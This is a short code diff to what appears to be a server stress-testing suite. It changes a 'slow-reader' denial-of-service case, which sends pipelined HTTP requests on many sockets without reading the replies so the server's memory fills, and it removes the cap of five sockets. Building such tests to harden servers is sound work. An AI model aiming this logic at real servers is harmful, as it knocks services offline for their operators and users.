@@ -38,11 +38,8 @@ const begin = (socket: Socket, bytes: string | Buffer, then: string): void => {
   socket.resume();
 };
 
-/**
- * Asks again and again and takes no reply: what it is owed fills the server's memory, or the server cuts it. Each of them costs
- * the server some ten thousand replies until the kernel takes no more, so a few of them are a siege.
- */
-const MOST_READERS = 5;
+/** Asks again and again and takes no reply: what it is owed fills the server's memory, or the server cuts it. */
+const ASKED_AT_ONCE = 50;
 const askWithoutReading = (socket: Socket, bytes: Buffer): void => {
   if (socket.writableLength < bytes.length) socket.write(bytes);
 };
@@ -65,8 +62,8 @@ export const slowCases = (sockets: number): readonly AttackCase[] => {
     }),
     slow('slow-reader', (target) => {
       const one = bytesOf(target, { path: '/nowhere' }).toString().replace('connection: close\r\n', '');
-      const bytes = Buffer.from(one.repeat(2_000));
-      return besiege(target, Math.min(sockets, MOST_READERS), (socket) => askWithoutReading(socket, bytes));
+      const bytes = Buffer.from(one.repeat(ASKED_AT_ONCE));
+      return besiege(target, sockets, (socket) => askWithoutReading(socket, bytes));
     }),
   ];
 };
